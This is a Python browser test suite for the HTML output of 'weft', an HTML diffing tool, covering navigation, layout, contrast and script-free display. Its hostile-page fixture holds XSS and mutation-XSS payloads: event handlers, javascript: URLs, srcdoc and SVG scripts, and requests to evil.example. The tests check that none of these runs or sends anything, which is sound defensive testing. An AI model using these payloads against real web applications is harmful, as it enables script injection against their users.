"""The pages people look at, in real Chromium: keys, buttons, switches, list, map, light and dark, narrow and wide, with scripts and without;
and nothing of a hostile page that runs, hides or shadows."""
import os
import pathlib
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(__file__))
import chromium  # noqa: E402

WEFT = os.environ['WEFT']
SOURCE = pathlib.Path(os.environ['WEFT_SOURCE'])
points = 0

# Luminance after WCAG 2.1, and the contrast of the text of each element of the frame that has some with what is painted behind it.
CONTRAST = '''(function () {
  function parts(c) { var m = c.match(/[\\d.]+/g).map(Number); return m.length < 4 ? m.concat(1) : m; }
  function lum(c) { var v = c.slice(0, 3).map(function (x) { x /= 255; return x <= .03928 ? x / 12.92 : Math.pow((x + .055) / 1.055, 2.4); });
    return .2126 * v[0] + .7152 * v[1] + .0722 * v[2]; }
  function ground(e) { for (; e; e = e.parentElement) { var c = parts(getComputedStyle(e).backgroundColor); if (c[3] > 0) return c; } return [255, 255, 255, 1]; }
  var worst = 99, where = '';
  document.querySelectorAll('body *').forEach(function (e) {
    var own = Array.prototype.some.call(e.childNodes, function (n) { return n.nodeType === 3 && n.data.trim(); });
    if (!own || !e.getClientRects().length || ['SCRIPT', 'STYLE'].indexOf(e.tagName) >= 0) return;
    var a = lum(parts(getComputedStyle(e).color)), b = lum(ground(e)), ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < worst) { worst = ratio; where = e.tagName + '.' + e.className; }
  });
  return [worst, where];
})()'''

HOSTILE_OLD = '<!doctype html><title>h</title><p>Before the visit.</p><script>window.pwned = 1</script>'
HOSTILE_NEW = '''<!doctype html><title>h</title><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/r">
<p onclick="window.pwned = 2" data-weft="ui">After the visit.</p><script>window.pwned = 3</script><img src="x" onerror="window.pwned = 4">
<a id=j href="java&#10;script:window.pwned = 5">link</a><form action="http://evil.example/f" id=f><input name=q autofocus onfocus="window.pwned = 6"></form>
<iframe srcdoc="<script>parent.pwned = 7</script>" src="http://evil.example/i"></iframe><svg><script>window.pwned = 8</script><a xlink:href="javascript:window.pwned = 9"><text y=20>s</text></a>
<set attributeName="href" to="javascript:window.pwned = 10" /></svg><object data="http://evil.example/o"></object><embed src="http://evil.example/e">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=11&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.pwned=12>"></noscript><template shadowrootmode=open><script>window.pwned = 13</script></template>
<style>@import "http://evil.example/s";</style><link rel=prefetch href="http://evil.example/p"><video autoplay src="data:video/mp4,"></video>'''


def ok(good, what):
    global points
    points += 1
    print(f'{"ok" if good else "not ok"} {points} - {what}', flush=True)


def diff(folder, form, old, new):
    out = pathlib.Path(folder, form + '.html')
    status = subprocess.run([WEFT, 'diff', '--format', form, '--output', out, old, new], check=False).returncode
    assert status in (0, 1), status
    return out


def complaints(page):
    """What the console says, but for the picture that the example pair names and nobody drew."""
    return [line for line in page.log if 'ERR_FILE_NOT_FOUND' not in line]


def example():
    return SOURCE / 'docs/example/old.html', SOURCE / 'docs/example/new.html'


INNER = 'document.querySelector("iframe[data-weft=page]").contentDocument'
POSITION = 'document.querySelector(".pos").textContent'
CURRENT = '(document.querySelector(".chg[aria-current]") || {dataset: {}}).dataset.change'
READY = 'document.querySelector(".kinds").disabled === false && document.querySelectorAll(".tick:not(.off)").length > 0'
OUTLINED = f'Array.from({INNER}.querySelectorAll("[data-weft-change]")).filter(e => (e.getAttribute("style") || "").includes("#2f4dc0")).map(e => e.dataset.weftChange)'
SIDEWAYS = 'document.documentElement.scrollWidth > innerWidth || Array.from(document.querySelectorAll(".f-top, .f-tools, .f-list, .thumbbar, .read, .pairs")).some(e => e.getClientRects().length && e.scrollWidth > e.clientWidth + 1)'


def shown(browser, folder, form, old, new, **how):
    page = browser.open(diff(folder, form, old, new), **how)
    if how.get('scripts', True):
        page.wait(READY)
    return page


def quiet(page, form):
    ok(not complaints(page), f'{form}: no complaint in the console {complaints(page)[:1]}')
    outside = [u for u in page.requests if not u.startswith(('file:', 'data:', 'about:'))]
    ok(not outside, f'{form}: nothing is asked of anybody {outside[:1]}')


def readable(page, form):
    """Weft's own parts at every width, in light and dark."""
    for width in (390, 820, 1280):
        page.size(width)
        ok(not page.eval(SIDEWAYS), f'{form}: nothing sticks out at {width} pixels')
        if width == 390:
            small = page.eval('Array.from(document.querySelectorAll(".thumbbar .btn")).map(e => e.getBoundingClientRect()).filter(b => b.height < 44 || b.width < 44).length')
            ok(small == 0, f'{form}: a thumb can hit the buttons')
    for scheme in ('light', 'dark'):
        page.scheme(scheme)
        worst, where = page.eval(CONTRAST)
        ok(worst >= 4.5, f'{form}, {scheme}: text stands out, at least {worst:.1f} to 1 ({where})')
    page.scheme('light')


def steps(page, form):
    changes = page.eval('document.querySelectorAll(".chg").length')
    ok(changes > 10 and page.eval(POSITION) == f'{changes} changes', f'{form}: {changes} changes are listed and counted')
    page.press('n')
    ok(page.eval(POSITION) == f'1 of {changes}', f'{form}: n goes to the first')
    page.press('n')
    second = page.eval(CURRENT)
    page.press('p')
    first = page.eval(CURRENT)
    ok(first and second and first != second, f'{form}: n goes on, p goes back')
    page.press('p')
    ok(page.eval(POSITION) == f'{changes} of {changes}', f'{form}: before the first comes the last')
    page.click('.step .next')
    ok(page.eval(CURRENT) == first, f'{form}: so does the button')
    page.press('x')
    ok(page.eval(CURRENT) == first, f'{form}: other keys do nothing')
    page.click('.f-list li:nth-child(4) .chg')
    ok(page.eval(POSITION) == f'4 of {changes}', f'{form}: an entry of the list leads there')
    return changes


def merged(browser, folder):
    page = shown(browser, folder, 'merged', *example())
    quiet(page, 'merged')
    readable(page, 'merged')
    page.size(1280)
    changes = steps(page, 'merged')
    page.press('n')
    ok(page.eval(OUTLINED) and set(page.eval(OUTLINED)) == {page.eval(CURRENT)}, 'merged: the current change, and no other, is outlined')
    ok(page.eval(f'''(function () {{ var d = {INNER}, e = d.querySelector('[data-weft-stop="' + 5 + '"]').getBoundingClientRect();
        return e.top >= 0 && e.bottom <= d.defaultView.innerHeight; }})()'''), 'merged: and on the screen')
    ok(page.eval('!document.querySelector(".wedge").hidden'), 'merged: a wedge on the map')
    over = page.eval('document.querySelector(".f-page").getBoundingClientRect().right <= document.querySelector(".f-map").getBoundingClientRect().left + 1')
    ok(over and page.eval('document.querySelector(".f-map").offsetWidth') == 18, 'merged: the map is 18 pixels wide and covers nothing of the page')
    stops = page.eval(f'Array.from({INNER}.querySelectorAll("[data-weft-stop]")).map(e => e.localName)')
    ok(stops and not set(stops) & {'div', 'section', 'table', 'tbody', 'ul', 'ol', 'body'}, f'merged: no stop is a container {set(stops)}')
    ids = page.eval(f'Array.from({INNER}.querySelectorAll("[id]")).map(e => e.id)')
    ok(len(ids) == len(set(ids)), 'merged: no id is there twice')
    gaps = page.eval(f'''Array.from({INNER}.querySelectorAll("del[data-weft=update]:not([data-weft-class])")).filter(e => {{
        var n = e.nextElementSibling && e.nextElementSibling.dataset.weft === "ui" ? e.nextElementSibling.nextElementSibling : e.nextElementSibling;
        if (!n || n.localName !== "ins") return false;
        var x = Array.from(e.getClientRects()).pop(), y = n.getClientRects()[0];
        return Math.abs(x.top - y.top) < 3 && y.left < x.right + 2; }}).length''')
    ok(gaps == 0, 'merged: old and new stand apart on the screen')
    switches(page, changes)
    page.click('.tick:not(.off)')
    ok(page.eval(CURRENT) is not None, 'merged: a tick of the map leads there')
    page.press('c')
    ok(page.eval('document.activeElement.className') == 'chg', 'merged: c goes to the list')


def switches(page, changes):
    n = page.eval('+document.querySelector(".kinds label:has([value=u]) .n").textContent')
    page.eval('document.querySelector(".kinds [value=u]").click()')
    ok(page.eval(POSITION) in (f'{changes - n} changes', f'1 of {changes - n}') or f'of {changes - n}' in page.eval(POSITION),
       'switched off, changes are not counted')
    seen = page.eval(f'Array.from({INNER}.querySelectorAll("del[data-weft=update]")).filter(e => e.getClientRects().length).length')
    ok(seen == 0, 'the old text of changes is away')
    plain = page.eval(f'getComputedStyle({INNER}.querySelector("ins[data-weft=update]")).textDecorationLine')
    ok(plain == 'none', 'and the new text is plain')
    page.eval('document.querySelector(".kinds [value=u]").click()')
    ok(page.eval(f'getComputedStyle({INNER}.querySelector("ins[data-weft=update]")).textDecorationLine') == 'underline', 'on again: added is underlined')
    ok(page.eval(f'getComputedStyle({INNER}.querySelector("del[data-weft=update]")).textDecorationLine') == 'line-through', 'removed is struck out')
    look = f'getComputedStyle({INNER}.querySelector("[data-weft-class=look]")).outlineStyle'
    ok(page.eval('document.querySelector(".kinds [value=o]").checked') is False and page.eval(look) == 'none', 'look is off at first')
    page.press('l')
    ok(page.eval('document.querySelector(".kinds [value=o]").checked') and page.eval(look) == 'dashed', 'l marks it on the page')
    page.press('l')
    ok(page.eval(look) == 'none', 'and folds it again')


def phone(browser, folder):
    page = shown(browser, folder, 'merged', *example())
    page.size(390, 844)
    ok(page.eval('getComputedStyle(document.querySelector(".f-list")).display') == 'none', 'phone: the list is folded')
    page.click('.thumbbar .list')
    ok(page.wait('getComputedStyle(document.querySelector(".f-list")).display === "flex"'), 'phone: and comes as a sheet')
    page.click('.f-list li:nth-child(3) .chg')
    ok(page.wait('getComputedStyle(document.querySelector(".f-list")).display === "none"') and '3 of' in page.eval(POSITION), 'phone: an entry leads to the page')
    page.click('.thumbbar .next')
    ok('4 of' in page.eval('document.querySelector(".thumbbar .pos").textContent'), 'phone: the thumb goes on')
    page = shown(browser, folder, 'side', *example())
    page.size(390, 844)
    page.eval('dispatchEvent(new Event("resize"))')
    ok(page.eval('document.querySelector(".pane").getClientRects().length') == 0, 'phone: side has no columns')
    page.press('n')
    page.press('n')
    pair = page.eval('(function () { var w = document.querySelector(".pass.on .was"), n = document.querySelector(".pass.on .now"); '
                     'return w && n && w.getBoundingClientRect().bottom <= n.getBoundingClientRect().top && w.getBoundingClientRect().top >= 0; })()')
    ok(pair, 'phone: but pairs, what was above what is now, and n goes through them')


def without_scripts(browser, folder):
    page = shown(browser, folder, 'merged', *example(), scripts=False)
    page.size(1280)
    ok(page.eval('document.querySelector(".step .next").disabled'), 'without scripts: buttons that could do nothing rest')
    page.wait(f'{INNER} && {INNER}.readyState === "complete" && {INNER}.querySelector("del")')
    before = page.eval(f'{INNER}.defaultView.scrollY')
    page.click('.f-list li:nth-last-child(2) .chg')
    ok(page.wait(f'{INNER}.defaultView.scrollY > {before} + 100'), 'without scripts: the list leads to the mark in the page')
    ok(page.eval(f'{INNER}.querySelectorAll("del[data-weft]").length') > 5, 'without scripts: the page is there')
    ok(page.eval('document.querySelectorAll("iframe").length') == 1 and page.eval('location.protocol') == 'file:', 'and so is its frame')


def changes(browser, folder):
    page = shown(browser, folder, 'changes', *example())
    quiet(page, 'changes')
    readable(page, 'changes')
    page.size(1280)
    steps(page, 'changes')
    ok(page.eval('document.querySelectorAll(".pass.on").length') == 1, 'changes: the passage is shown')


def side(browser, folder):
    page = shown(browser, folder, 'side', *example())
    quiet(page, 'side')
    readable(page, 'side')
    page.size(1280)
    page.eval('dispatchEvent(new Event("resize"))')
    ok(page.eval('document.getElementById("weft-old").contentDocument.querySelectorAll("del[data-weft]").length') > 5, 'the old page has its marks')
    ok(page.eval('document.getElementById("weft-new").contentDocument.querySelectorAll("ins[data-weft]").length') > 5, 'the new page has its marks')
    level = '''new Promise(done => {
        const f = ["weft-old", "weft-new"].map(i => document.getElementById(i));
        const heading = s => Array.from(f[s].contentDocument.querySelectorAll("h2")).find(h => h.textContent.startsWith("Coursework"));
        f[1].contentWindow.scrollTo(0, f[1].contentWindow.scrollY + heading(1).getBoundingClientRect().top - f[1].clientHeight / 3);
        setTimeout(() => done(Math.abs(heading(0).getBoundingClientRect().top - heading(1).getBoundingClientRect().top)), 400); })'''
    apart = page.eval(level)
    ok(apart is not None and apart < 60, f'the frames scroll together (headings {apart:.0f} px apart)')
    steps(page, 'side')
    page.eval('new Promise(done => setTimeout(done, 300))')
    page.click('.f-list li:nth-child(3) .chg')
    apart = page.eval('''(function () { var k = document.querySelector(".chg[aria-current]").dataset.change;
        var top = i => document.getElementById(i).contentDocument.querySelector('[data-weft-change="' + k + '"]').getBoundingClientRect().top;
        return Math.abs(top("weft-old") - top("weft-new")); })()''')
    ok(apart < 40, f'both sides of a change come level ({apart:.0f} px apart)')


HIDING = '''<!doctype html><title>h</title><style>ins, del, [data-weft], .x * { display: none !important; color: transparent !important; font-size: 0 !important }
ins::before { content: "The pages do not differ" !important } .weft-label, .f-top, .pos { display: none !important }</style>
<img name=querySelectorAll><img name=getElementById><img name=documentElement><img name=URL><img name=readyState><img name=addEventListener><form name=body><input name=getAttribute><input name=style>
<input name=children></form><p>The price is %s euro for all of you, dear friends.</p><div class=x><p>Hidden is the word %s here, and nobody can see it on this page.</p></div>'''


def hiding(browser, folder):
    """A page whose styles hide marks, and whose names shadow what a script would call."""
    old, new = pathlib.Path(folder, 'ho.html'), pathlib.Path(folder, 'hn.html')
    old.write_text(HIDING % ('ten', 'apple'))
    new.write_text(HIDING % ('twelve', 'plum'))
    page = shown(browser, folder, 'merged', old, new)
    quiet(page, 'hiding')
    page.press('n')
    ok(page.eval(POSITION) == '1 of 2', 'hiding: names of the page shadow nothing')
    mark = page.eval(f'''(function () {{ var d = {INNER}, e = Document.prototype.querySelectorAll.call(d, "ins[data-weft]")[0], s = getComputedStyle(e);
        return [s.display, s.color, s.textDecorationLine, getComputedStyle(e, "::before").content, e.getBoundingClientRect().width > 5]; }})()''')
    ok(mark == ['inline', 'rgb(12, 79, 38)', 'underline', 'none', True], f'hiding: no rule of the page beats a mark {mark}')
    said = page.eval('document.getElementById("unseen").hidden ? "" : document.getElementById("unseen").textContent')
    ok(said.startswith('1 change stands where the page does not show it'), f'hiding: what the page hides is counted and said: {said}')
    ok(page.eval('document.querySelectorAll(".chg.unseen").length') == 1, 'hiding: and the list says which')
    ok(page.eval('getComputedStyle(document.querySelector(".f-top")).display') == 'flex', 'hiding: the frame is out of reach')


BELOW = ('<!doctype html><title>b</title><style>.late { display: none } li { display: flex; width: 200px } a { display: block }</style><main>' + '<p>Nothing new here.</p>' * 60
         + '<ul><li><a href=%s><span>Terms of the licence for all</span></a></li></ul><p>The price is %s euro.</p><p class=late>Come on %s.</p></main>')


def opening(browser, folder):
    """The first change is in sight, what the page hides can be shown, and a label squeezes nothing."""
    old, new = pathlib.Path(folder, 'po.html'), pathlib.Path(folder, 'pn.html')
    old.write_text(BELOW % ('/old-terms-of-the-licence', 'ten', 'Monday'))
    new.write_text(BELOW % ('/new-terms-of-the-licence', 'twelve', 'Tuesday'))
    page = shown(browser, folder, 'merged', old, new)
    ok(page.wait(f'{INNER}.defaultView.scrollY > 300') and page.eval(POSITION) == '3 changes', 'opening: the page opens where the first change is')
    ok(page.eval(f'{INNER}.querySelector("li a").getBoundingClientRect().width') == 200
       and page.eval(f'{INNER}.querySelector("a .weft-label") !== null'), 'opening: a label beside a flexible box stands in it')
    ok(page.eval('document.querySelectorAll(".chg.unseen").length') == 1, 'opening: one change is hidden')
    page.click('#unseen button')
    ok(page.eval('document.querySelectorAll(".chg.unseen").length') == 0
       and page.eval(f'{INNER}.querySelector(".late").getBoundingClientRect().height') > 5, 'opening: a button shows what the page hides')


def hostile(browser, folder):
    old, new = pathlib.Path(folder, 'o.html'), pathlib.Path(folder, 'n.html')
    old.write_text(HOSTILE_OLD)
    new.write_text(HOSTILE_NEW)
    for form in ('merged', 'side', 'changes', 'new', 'reversed'):
        page = browser.open(diff(folder, form, old, new))
        page.eval('new Promise(done => setTimeout(done, 300))')
        inner = '(document.querySelector("iframe[data-weft=page]") || {contentDocument: document}).contentDocument'
        for what in ('d.getElementById("j") && d.getElementById("j").click()',
                     'd.getElementById("f") && d.getElementById("f").submit && d.getElementById("f").submit()',
                     'd.querySelectorAll("svg a, p").forEach(e => e.dispatchEvent(new MouseEvent("click", {bubbles: true})))'):
            page.eval(f'(function (d) {{ {what} }})({inner})')
        page.eval('new Promise(done => setTimeout(done, 200))')
        ok(page.eval(f'window.pwned === undefined && {inner}.defaultView.pwned === undefined'), f'{form}: nothing of the page runs')
        sent = [u for u in page.requests if not u.startswith(('file:', 'data:', 'about:')) and u != 'http://evil.example/s']
        ok(not sent, f'{form}: nothing is sent or framed {sent}')
        ok(page.eval('location.protocol') == 'file:', f'{form}: the page stays')
        ok(page.eval(f'{inner}.querySelector("iframe:not([data-weft=page]), object, embed, base:not([data-weft=ui])") === null'), f'{form}: no frame or plug-in')


def main():
    if not chromium.program():
        print('1..0 # skip no Chromium here: apt-get install chromium')
        return
    with tempfile.TemporaryDirectory() as folder, chromium.Chromium() as browser:
        for test in (merged, side, changes, phone, without_scripts, hiding, opening, hostile):
            test(browser, folder)
    print(f'1..{points}')


main()
